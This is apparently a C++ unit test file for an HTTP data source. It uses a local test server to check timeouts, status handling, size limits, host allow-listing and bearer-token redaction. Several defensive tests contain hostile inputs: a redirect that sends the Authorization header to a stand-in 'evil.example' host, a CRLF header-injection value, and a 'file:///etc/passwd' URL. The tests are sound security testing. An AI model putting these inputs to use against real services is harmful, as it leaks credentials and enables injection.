// Tests of the http source against a local cpp-httplib server on
// 127.0.0.1: records and pointers, POST, headers and bearer tokens (which
// never show in messages), timeouts and cancellation, the error classes of
// HTTP statuses, the response size cap, the allow-list (checked before any
// request), and the config string parsers.
#include "report/data/http_source.h"

#include <gtest/gtest.h>
#include <httplib.h>
#include <stdlib.h>

#include <atomic>
#include <chrono>
#include <thread>

#include "tests/unit/test_util.h"

namespace quire {
namespace {

using std::chrono::milliseconds;
using std::chrono::steady_clock;
using test::Contains;
using test::ContainsNone;

constexpr char kTokenVar[] = "QUIRE_TEST_HTTP_TOKEN";
constexpr char kToken[] = "s3cret-T0KEN-value";

// A server on 127.0.0.1 and a port of its own, running on its own thread
// from construction to destruction. Counts the requests it gets.
class TestServer {
 public:
  TestServer() {
    Get("/records", [](const httplib::Request&, httplib::Response& res) {
      res.set_content(R"([{"region": "North", "sales": 120.5, "day": "2024-01-01"},
                          {"region": "South", "sales": 98, "day": "2024-01-02"}])",
                      "application/json");
    });
    Get("/nested", [](const httplib::Request&, httplib::Response& res) {
      res.set_content(R"({"data": {"items": [{"k": "a"}, {"k": "b"}]}})", "application/json");
    });
    server_.Post("/echo", [this](const httplib::Request& req, httplib::Response& res) {
      ++requests_;
      res.set_content("[{\"body\": " + req.body + ", \"content_type\": \"" +
                          req.get_header_value("Content-Type") + "\", \"x_test\": \"" +
                          req.get_header_value("X-Test") + "\"}]",
                      "application/json");
    });
    Get("/slow", [this](const httplib::Request&, httplib::Response& res) {
      for (int i = 0; i < 300 && !stopping_; ++i) std::this_thread::sleep_for(milliseconds(10));
      res.set_content("[]", "application/json");
    });
    Get(R"(/status/(\d+))", [](const httplib::Request& req, httplib::Response& res) {
      res.status = std::stoi(req.matches[1]);
      res.set_content("error; you sent " + req.get_header_value("Authorization"), "text/plain");
    });
    Get("/redirect", [](const httplib::Request& req, httplib::Response& res) {
      res.set_redirect("http://evil.example/?" + req.get_header_value("Authorization"));
    });
    Get("/big", [](const httplib::Request&, httplib::Response& res) {
      res.set_content("[" + std::string(5000, ' ') + "]", "application/json");
    });
    Get("/big-chunked", [](const httplib::Request&, httplib::Response& res) {
      res.set_chunked_content_provider(
          "application/json", [](size_t offset, httplib::DataSink& sink) {
            if (offset >= 5000) {
              sink.done();
              return true;
            }
            const std::string chunk = offset == 0 ? "[" : std::string(500, ' ');
            return sink.write(chunk.data(), chunk.size());
          });
    });
    Get("/auth", [](const httplib::Request& req, httplib::Response& res) {
      if (req.get_header_value("Authorization") != std::string("Bearer ") + kToken) {
        res.status = 401;
        return;
      }
      res.set_content(R"([{"ok": true}])", "application/json");
    });
    // The Authorization header echoed as a record: a declared int column
    // makes the reader quote it in an error.
    Get("/auth-echo", [](const httplib::Request& req, httplib::Response& res) {
      res.set_content("[{\"auth\": \"" + req.get_header_value("Authorization") + "\"}]",
                      "application/json");
    });
    Get("/not-json", [](const httplib::Request&, httplib::Response& res) {
      res.set_content("hello", "text/plain");
    });

    port_ = server_.bind_to_any_port("127.0.0.1");
    thread_ = std::thread([this] { server_.listen_after_bind(); });
    // stop() does nothing before the loop runs: wait for it.
    for (int i = 0; i < 500 && !server_.is_running(); ++i) {
      std::this_thread::sleep_for(milliseconds(2));
    }
  }
  ~TestServer() {
    stopping_ = true;
    server_.stop();
    thread_.join();
  }
  TestServer(const TestServer&) = delete;
  TestServer& operator=(const TestServer&) = delete;

  int port() const { return port_; }
  int requests() const { return requests_; }
  std::string Url(const std::string& path) const {
    return "http://127.0.0.1:" + std::to_string(port_) + path;
  }

 private:
  // Registers a counted GET handler.
  void Get(const std::string& pattern, httplib::Server::Handler handler) {
    server_.Get(pattern, [this, handler](const httplib::Request& req, httplib::Response& res) {
      ++requests_;
      handler(req, res);
    });
  }

  httplib::Server server_;
  std::thread thread_;
  int port_ = -1;
  std::atomic<int> requests_{0};
  std::atomic<bool> stopping_{false};
};

// Sets an environment variable for the life of the object.
class ScopedEnv {
 public:
  ScopedEnv(const char* name, const char* value) : name_(name) { setenv(name, value, 1); }
  ~ScopedEnv() { unsetenv(name_); }
  ScopedEnv(const ScopedEnv&) = delete;
  ScopedEnv& operator=(const ScopedEnv&) = delete;

 private:
  const char* name_;
};

class HttpSourceTest : public ::testing::Test {
 protected:
  HttpSourceTest() {
    options_.allow_hosts = {"127.0.0.1"};
    ctx_.timeout = milliseconds(5000);
  }

  SourceSpec Spec(const std::string& path) const {
    SourceSpec spec;
    spec.name = "tickets";
    spec.kind = SourceKind::kHttp;
    spec.url = server_.Url(path);
    return spec;
  }
  StatusOr<Table> Fetch(const SourceSpec& spec) { return FetchHttpSource(spec, options_, ctx_); }
  StatusOr<Table> Fetch(const std::string& path) { return Fetch(Spec(path)); }

  TestServer server_;
  HttpOptions options_;
  FetchContext ctx_;
};

TEST_F(HttpSourceTest, FetchesJsonRecords) {
  StatusOr<Table> t = Fetch("/records");
  ASSERT_TRUE(t.ok()) << t.status().ToString();
  ASSERT_EQ(t->num_columns(), 3u);
  EXPECT_EQ(t->column(0).type(), ColumnType::kText);
  EXPECT_EQ(t->column(1).type(), ColumnType::kFloat);
  EXPECT_EQ(t->column(2).type(), ColumnType::kDate);
  ASSERT_EQ(t->num_rows(), 2u);
  EXPECT_EQ(t->column(0).AsString(1), "South");
  EXPECT_EQ(t->column(1).AsString(0), "120.5");
  EXPECT_EQ(server_.requests(), 1);
}

TEST_F(HttpSourceTest, FollowsNestedPointer) {
  SourceSpec spec = Spec("/nested");
  spec.pointer = "/data/items";
  StatusOr<Table> t = Fetch(spec);
  ASSERT_TRUE(t.ok()) << t.status().ToString();
  ASSERT_EQ(t->num_rows(), 2u);
  EXPECT_EQ(t->column(0).AsString(1), "b");

  spec.pointer = "/data/nope";
  EXPECT_EQ(Fetch(spec).status().code(), StatusCode::kInvalidArgument);
}

TEST_F(HttpSourceTest, PostsBodyAndHeaders) {
  SourceSpec spec = Spec("/echo");
  spec.method = "POST";
  spec.body = R"({"q": 1})";
  spec.headers = {{"X-Test", "yes"}};
  StatusOr<Table> t = Fetch(spec);
  ASSERT_TRUE(t.ok()) << t.status().ToString();
  EXPECT_EQ(t->FindColumn("body")->AsString(0), R"({"q":1})");
  EXPECT_EQ(t->FindColumn("content_type")->AsString(0), "application/json");
  EXPECT_EQ(t->FindColumn("x_test")->AsString(0), "yes");

  spec.headers = {{"Content-Type", "application/vnd.test+json"}};
  t = Fetch(spec);
  ASSERT_TRUE(t.ok()) << t.status().ToString();
  EXPECT_EQ(t->FindColumn("content_type")->AsString(0), "application/vnd.test+json");

  spec.headers = {{"X-Bad", "a\r\nInjected: 1"}};
  EXPECT_EQ(Fetch(spec).status().code(), StatusCode::kInvalidArgument);
}

TEST_F(HttpSourceTest, SlowResponseExceedsDeadline) {
  ctx_.timeout = milliseconds(300);
  const auto start = steady_clock::now();
  StatusOr<Table> t = Fetch("/slow");
  EXPECT_LT(steady_clock::now() - start, milliseconds(2500));
  EXPECT_EQ(t.status().code(), StatusCode::kDeadlineExceeded) << t.status().ToString();
  EXPECT_TRUE(IsTransient(t.status()));
  EXPECT_TRUE(Contains(t.status().message(), "source 'tickets': GET " + server_.Url("/slow")));
}

TEST_F(HttpSourceTest, CancelledTransferStops) {
  const auto start = steady_clock::now();
  ctx_.cancelled = [start] { return steady_clock::now() - start > milliseconds(200); };
  StatusOr<Table> t = Fetch("/slow");
  EXPECT_LT(steady_clock::now() - start, milliseconds(2500));
  EXPECT_EQ(t.status().code(), StatusCode::kCancelled) << t.status().ToString();
}

TEST_F(HttpSourceTest, StatusCodesMapToErrorClasses) {
  struct Case {
    int status;
    StatusCode code;
    bool transient;
  };
  for (const Case& c :
       {Case{500, StatusCode::kUnavailable, true}, Case{503, StatusCode::kUnavailable, true},
        Case{429, StatusCode::kResourceExhausted, true}, Case{404, StatusCode::kNotFound, false},
        Case{403, StatusCode::kFailedPrecondition, false},
        Case{400, StatusCode::kFailedPrecondition, false}}) {
    const std::string path = "/status/" + std::to_string(c.status);
    StatusOr<Table> t = Fetch(path);
    ASSERT_FALSE(t.ok()) << c.status;
    EXPECT_EQ(t.status().code(), c.code) << t.status().ToString();
    EXPECT_EQ(IsTransient(t.status()), c.transient) << c.status;
    EXPECT_TRUE(Contains(t.status().message(), "source 'tickets': GET " + server_.Url(path) +
                                                   " returned HTTP " + std::to_string(c.status)))
        << t.status().message();
  }
}

TEST_F(HttpSourceTest, RedirectsAreNotFollowed) {
  StatusOr<Table> t = Fetch("/redirect");
  EXPECT_EQ(t.status().code(), StatusCode::kFailedPrecondition);
  EXPECT_TRUE(Contains(t.status().message(), "redirects are not followed"));
  EXPECT_EQ(server_.requests(), 1);
}

TEST_F(HttpSourceTest, OversizeBodyFailsWithoutRetry) {
  options_.max_response_bytes = 1000;
  for (const char* path : {"/big", "/big-chunked"}) {
    StatusOr<Table> t = Fetch(path);
    EXPECT_EQ(t.status().code(), StatusCode::kFailedPrecondition) << t.status().ToString();
    EXPECT_FALSE(IsTransient(t.status()));
    EXPECT_TRUE(Contains(t.status().message(), "http.max_response_bytes (1000 bytes)"));
  }
  options_.max_response_bytes = 10000;
  EXPECT_TRUE(Fetch("/big").ok());
}

TEST_F(HttpSourceTest, ResponseThatIsNotJson) {
  StatusOr<Table> t = Fetch("/not-json");
  EXPECT_EQ(t.status().code(), StatusCode::kInvalidArgument);
  EXPECT_TRUE(Contains(t.status().message(), "source 'tickets': response of GET " +
                                                 server_.Url("/not-json") +
                                                 ": invalid JSON at line 1, column"))
      << t.status().message();
}

TEST_F(HttpSourceTest, BearerTokenIsSentAndNeverInMessages) {
  ScopedEnv env(kTokenVar, kToken);
  options_.bearer_token_env = {{"127.0.0.1", kTokenVar}};
  StatusOr<Table> t = Fetch("/auth");
  ASSERT_TRUE(t.ok()) << t.status().ToString();
  EXPECT_EQ(t->column(0).AsString(0), "true");

  SourceSpec echo = Spec("/auth-echo");
  echo.columns = {{"auth", ColumnType::kInt}};
  std::string messages;
  for (const SourceSpec& spec : {Spec("/status/404"), Spec("/status/500"), Spec("/redirect"),
                                 Spec("/big"), Spec("/not-json"), echo}) {
    options_.max_response_bytes = 1000;
    StatusOr<Table> failed = Fetch(spec);
    ASSERT_FALSE(failed.ok()) << spec.url;
    messages += failed.status().ToString() + "\n";
  }
  EXPECT_TRUE(ContainsNone(messages, {kToken}));
  EXPECT_TRUE(Contains(messages, "'Bearer [redacted]' is not an int")) << messages;

  // The token goes to its host only.
  options_.bearer_token_env = {{"127.0.0.1:1", kTokenVar}};
  EXPECT_EQ(Fetch("/auth").status().code(), StatusCode::kFailedPrecondition);
}

TEST_F(HttpSourceTest, UnsetTokenVariableIsNamed) {
  options_.bearer_token_env = {{"127.0.0.1", "QUIRE_TEST_HTTP_UNSET"}};
  StatusOr<Table> t = Fetch("/auth");
  EXPECT_EQ(t.status().code(), StatusCode::kFailedPrecondition);
  EXPECT_TRUE(Contains(t.status().message(), "'QUIRE_TEST_HTTP_UNSET'"));
  EXPECT_EQ(server_.requests(), 0);
}

TEST_F(HttpSourceTest, HostOutsideAllowListIsRefusedWithoutRequest) {
  options_.allow_hosts = {"localhost", "127.0.0.1:" + std::to_string(server_.port() + 1)};
  StatusOr<Table> t = Fetch("/records");
  EXPECT_EQ(t.status().code(), StatusCode::kPermissionDenied);
  EXPECT_EQ(t.status().message(), "source 'tickets': host '127.0.0.1' is not in http.allow_hosts");

  SourceSpec evil = Spec("/records");
  evil.url = "https://evil.example/api";
  EXPECT_EQ(Fetch(evil).status().message(),
            "source 'tickets': host 'evil.example' is not in http.allow_hosts");
  options_.allow_hosts = {};
  EXPECT_EQ(Fetch("/records").status().code(), StatusCode::kPermissionDenied);
  EXPECT_EQ(server_.requests(), 0);

  options_.allow_hosts = {"127.0.0.1:" + std::to_string(server_.port())};
  EXPECT_TRUE(Fetch("/records").ok());
  EXPECT_EQ(server_.requests(), 1);
}

TEST_F(HttpSourceTest, OnlyHttpAndHttps) {
  SourceSpec spec = Spec("/records");
  for (const char* url : {"file:///etc/passwd", "ftp://127.0.0.1/x", "not a url"}) {
    spec.url = url;
    EXPECT_EQ(Fetch(spec).status().code(), StatusCode::kInvalidArgument) << url;
  }
  spec = Spec("/records");
  spec.method = "DELETE";
  EXPECT_EQ(Fetch(spec).status().code(), StatusCode::kInvalidArgument);
  EXPECT_EQ(server_.requests(), 0);
}

TEST(HttpSourceNoServerTest, ConnectionRefusedIsTransient) {
  std::string url;
  {
    TestServer gone;
    url = gone.Url("/records");
  }
  SourceSpec spec;
  spec.name = "tickets";
  spec.kind = SourceKind::kHttp;
  spec.url = url;
  HttpOptions options;
  options.allow_hosts = {"127.0.0.1"};
  StatusOr<Table> t = FetchHttpSource(spec, options, FetchContext{});
  EXPECT_EQ(t.status().code(), StatusCode::kUnavailable) << t.status().ToString();
  EXPECT_TRUE(IsTransient(t.status()));
}

TEST(HttpOptionsTest, ParseHostList) {
  StatusOr<std::vector<std::string>> hosts =
      ParseHostList(" API.example.com , 10.0.0.1:8080,,[::1]:443, ");
  ASSERT_TRUE(hosts.ok()) << hosts.status().ToString();
  EXPECT_EQ(*hosts, (std::vector<std::string>{"api.example.com", "10.0.0.1:8080", "[::1]:443"}));
  EXPECT_TRUE(ParseHostList("").ok());
  for (const char* bad : {"https://api.example.com", "a b", "host:0", "host:99999", "host:", ":80",
                          "[::1", "host:+80"}) {
    StatusOr<std::vector<std::string>> r = ParseHostList(std::string("ok.example,") + bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
    EXPECT_TRUE(Contains(r.status().message(), std::string("http.allow_hosts: '") + bad + "'"))
        << r.status().message();
  }
  EXPECT_TRUE(Contains(ParseHostList("https://x.example").status().message(), "not a URL"));
}

TEST(HttpOptionsTest, ParseBearerTokens) {
  StatusOr<std::map<std::string, std::string>> tokens =
      ParseBearerTokens("desk.example.com=DESK_TOKEN, API.example:8443 = API_TOKEN");
  ASSERT_TRUE(tokens.ok()) << tokens.status().ToString();
  EXPECT_EQ(*tokens, (std::map<std::string, std::string>{{"desk.example.com", "DESK_TOKEN"},
                                                         {"api.example:8443", "API_TOKEN"}}));
  for (const char* bad : {"desk.example.com", "=TOKEN", "desk.example.com=", "h=1TOKEN", "h=TO-KEN",
                          "https://h=TOKEN"}) {
    StatusOr<std::map<std::string, std::string>> r = ParseBearerTokens(bad);
    ASSERT_FALSE(r.ok()) << bad;
    EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
    EXPECT_TRUE(Contains(r.status().message(),
                         std::string("http.bearer_tokens: '") + bad + "' is not host=ENV_VAR"))
        << r.status().message();
  }
}

}  // namespace
}  // namespace quire
